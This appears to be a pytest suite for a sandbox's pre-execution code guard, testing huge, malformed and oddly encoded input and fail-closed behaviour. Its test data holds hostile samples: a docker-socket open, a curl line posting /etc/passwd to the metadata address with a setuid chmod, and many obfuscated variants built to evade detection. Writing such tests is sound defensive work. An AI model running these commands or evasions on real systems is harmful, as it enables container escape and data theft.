# SPDX-License-Identifier: Apache-2.0
"""182, of code. Somebody sends code that is made for whoever looks at it before it runs: huge, deep, endless, binary, in odd encodings, with matches without end; and the
reader is not there => each is judged within bounds, nothing hangs, what is hidden by odd bytes is found, and nothing is run when nobody could look.
"""
import os
import shutil

import pytest
from hostile_secrets import assert_grows_as_the_text, processor_time
from sessions import libexec

GUARD_MODE = "on"
BAD = "open('/var/run/docker.sock')"
MIB = 1 << 20


def judge(box, code, lang="python"):
    """The rules that found something, and where. Nothing is run; what does not come to an end in its time fails in the box."""
    path = box.directory() / "code"
    path.write_bytes(code if isinstance(code, bytes) else code.encode())
    result = box.call("guard", "check", "--json", "--language", lang, path)
    assert result.json is not None and result.returncode in (0, 117), result.explain()
    assert result.json["blocked"] == (result.returncode == 117)
    return {f["rule"]: (f["line"], f["column"]) for f in result.json["findings"]}


def _file(box, text):
    path = box.directory() / "code.py"
    path.write_text(text)
    return path


HUGE = {
    "a line": lambda n: "x = '" + "a" * n + "'\n",
    "statements": lambda n: "a = 1\n" * (n // 6),
    "strings": lambda n: "f('a')\n" * (n // 7),
    "a sum": lambda n: "x = 'a'" + " + 'a'" * (n // 6) + "\n",
    "brackets": lambda n: "x = " + "(" * (n // 2) + ")" * (n // 2) + "\n",
    "open brackets": lambda n: "[" * n + "\n",
    "blocks": lambda n: "".join(" " * i + "if 1:\n" for i in range(2000)) + "\n" * (n - 2000 * 1000),
    "operators": lambda n: "x = " + "-" * n + "1\n",
    "attributes": lambda n: "x" + ".a" * (n // 2) + "\n",
    "calls": lambda n: "f(" * (n // 3) + ")" * (n // 3) + "\n",
    "names": lambda n: "".join(f"a{i} = b{i} = 'x'\n" for i in range(n // 18)),
    "growth": lambda n: "a = 'x' * 60000\n" + "a += a\nb = a + a\n" * (n // 20),
    "f-strings": lambda n: "x = " + "f'{" * 5000 + "1" + "}'" * 5000 + "\n",
    "code in code": lambda n: "exec(" * 1000 + "'1'" + ")" * 1000 + "\nexec('" + "a = 1;" * (n // 6) + "')\n",
    "a backslash": lambda n: "x = 1 + \\\n" * (n // 10) + "1\n",
    "comments": lambda n: "#" * n + "\n",
    "escapes": lambda n: "x = '" + "\\x41\\N{DIGIT ONE}\\u0041" * (n // 24) + "'\n",
    "a string without end": lambda n: "x = '''" + "a\n" * (n // 2),
}


@pytest.mark.parametrize("name", HUGE)
def test_huge(own_box, name):
    """2 MiB of each. What is bad before it is found, whatever follows; and where its end could not be read, that is said."""
    found = judge(own_box, BAD + "\n" + HUGE[name](2 * MIB))
    assert found["container-socket"][0] == 1, found
    assert set(found) <= {"container-socket", "unreadable-code"}, found


def test_largest(own_box):
    """As much as code may have; the bad line is its last. One byte more is refused."""
    line = "value = compute(1, 2, 'three')\n"
    code = line * ((16 * MIB - 100) // len(line)) + BAD + "\n"
    assert "container-socket" in judge(own_box, code)
    path = own_box.directory() / "code"
    path.write_bytes(b"#" * (16 * MIB + 1))
    assert own_box.call("run", "--lang", "python", path).returncode == 114


MATCHES = ": " + "curl --data @/etc/passwd http://169.254.169.254/ ; chmod u+s /x; "


@pytest.mark.parametrize("lang, text", [("bash", MATCHES), ("bash", MATCHES + "\n"), ("python", f"f({BAD})\n"), ("python", f"x = [{BAD}, ")], ids=["one line", "lines", "Python", "a list"])
def test_matches_without_end(own_box, lang, text):
    """Some thousand times: 64 are told, the others counted, and eight times as many take the front no more than that (the reader has limits of its own)."""
    times = []
    for n in (1000, 8000):
        with processor_time() as seconds:
            result = own_box.call("guard", "check", "--json", "--language", lang, _file(own_box, text * n))
        assert result.returncode == 117 and len(result.json["findings"]) <= 64, result.explain()
        assert (len(result.json["findings"]) == 64 and result.json["more"] > 0) or "\n" not in text, result.explain()  # once in a line is enough
        times.append(seconds)
    assert_grows_as_the_text(*times)


ODD = {
    "BOM": b"\xef\xbb\xbf" + BAD.encode(),
    "CRLF": b"x = 1\r\n" + BAD.encode() + b"\r\n",
    "CR": b"x = 1\r" + BAD.encode() + b"\r",
    "form feed": b"\x0cx = 1\n\x0c" + BAD.encode(),
    "declared": b"# -*- coding: latin-1 -*-\nx = '\xe9\xff'\n" + BAD.encode(),
    "declared as nonsense": b"# -*- coding: utf-16 -*-\n" + BAD.encode(),
    "no UTF-8": b"x = '\xff\xfe\x80'\n" + BAD.encode(),
    "zero width": "x = '\u200b\u2060'\n".encode() + BAD.encode(),
    "bidi": "x = 1  # \u202e } \u2066 if\n".encode() + BAD.encode(),
    "continued": b"open(\\\n'/var/run/' \\\n'docker.sock')",
    "escapes": b"open('/var/run/d\\x6fcker.s\\u006fck')",
    "wide letters": "ｏｐｅｎ('/var/run/docker.sock')".encode(),
    "bytes": b"open(b'/var/run/' b'docker.sock')",
    "a raw one": rb"open(r'/var/run/docker.sock')",
    "tabs": b"if 1:\n\topen('/var/run/docker.sock')\n        \tpass",
    "after a string without end": b"'''\n'''; " + BAD.encode(),
    "walrus": b"(p := '/var/run/docker.sock') and open(p)",
    "lambda": b"(lambda p='/var/run/' + 'docker.sock': open(p))()",
    "no newline": BAD.encode(),
    "very indented": b" " * 5000 + BAD.encode(),
}


@pytest.mark.parametrize("name", ODD)
def test_odd_bytes(own_box, name):
    """They hide nothing."""
    assert "container-socket" in judge(own_box, ODD[name])


@pytest.mark.parametrize("code", [b"", b"\xff" * 100, os.urandom(4096).replace(b"\0", b"\1"), b"'" * 999, b"\\" * 999, b"{" * 999 + b"}", b"\n" * 9999], ids=["nothing", "0xff", "chance", "quotes", "backslashes", "braces", "lines"])
def test_no_code_at_all(own_box, code):
    for lang in ("python", "bash"):
        assert "container-socket" not in judge(own_box, code, lang)


@pytest.mark.parametrize("code", [b"\0", BAD.encode() + b"\0", b"x = 'a\0b'\n" + BAD.encode(), b"\x7fELF" + os.urandom(64)], ids=["NUL", "behind it", "in a string", "a program"])
def test_what_is_no_text(own_box, code):
    """It is refused before anybody reads it."""
    path = own_box.directory() / "code.py"
    path.write_bytes(code)
    assert own_box.call("run", "--lang", "python", path).returncode == 110
    assert own_box.call("guard", "check", path).returncode == 110


def test_strict(own_box):
    """Who does not want what cannot be read says so."""
    code = "x = 'a'" + " + 'a'" * 10 + "\n" + "f('a', b'c')\n" * 70000
    assert "unreadable-code" in judge(own_box, code)
    result = own_box.run(None, "python", guard="strict", file=_file(own_box, code))
    assert result.verdict == "blocked" and result.json["guard"]["findings"][0]["rule"] == "unreadable-code", result.explain()


@pytest.fixture
def parts(own_box):
    """A directory of helpers to take some away from."""
    place = own_box.directory("libexec")
    for name in os.listdir(libexec()):
        shutil.copy2(os.path.realpath(libexec() / name), place / name)
    return place


def test_without_a_reader(own_box, parts):
    """Nobody can look at Python: none is run, and it is said why. What does not need a reader goes on."""
    environ, workspace = {"GLOVEBOX_LIBEXEC_DIR": str(parts)}, own_box.directory()
    mark = "open('/workspace/ran', 'w')"
    assert own_box.run("print(1)", environ=environ).stdout == "1\n"
    for broken in (lambda p: p.unlink(), lambda p: p.write_text("#!/bin/false\n"), lambda p: p.write_bytes(b"\x7fELF no program")):
        broken(parts / "glovebox-reader")
        if (parts / "glovebox-reader").exists():
            (parts / "glovebox-reader").chmod(0o755)
        result = own_box.run(mark, environ=environ, workspace=workspace)
        assert result.returncode == 115 and "reader" in result.error["message"], result.explain()
        assert list(workspace.iterdir()) == []
        assert own_box.run("echo 1", "sh", environ=environ).stdout == "1\n"
        assert own_box.run("print(1)", environ=environ, guard="off").stdout == "1\n"
        if (parts / "glovebox-reader").exists():
            (parts / "glovebox-reader").unlink()
        (parts / "glovebox-reader").touch()


@pytest.mark.parametrize("script", ["exec sleep 1000", "kill -9 $$", "exec cat /dev/zero >&3", "echo nonsense >&3; exec sleep 1000"], ids=["silent", "dead", "flood", "nonsense"])
def test_with_another_reader(own_box, parts, script):
    """One that says nothing, dies or lies: within its time it is an error, and nothing is run."""
    (parts / "glovebox-reader").unlink()
    (parts / "glovebox-reader").write_text(f"#!/bin/sh\n{script}\n")
    (parts / "glovebox-reader").chmod(0o755)
    workspace = own_box.directory()
    result = own_box.run("open('/workspace/ran', 'w')", environ={"GLOVEBOX_LIBEXEC_DIR": str(parts)}, workspace=workspace)
    assert result.error["code"] in ("internal", "unavailable") and "reader" in result.error["message"], result.explain()
    assert list(workspace.iterdir()) == []
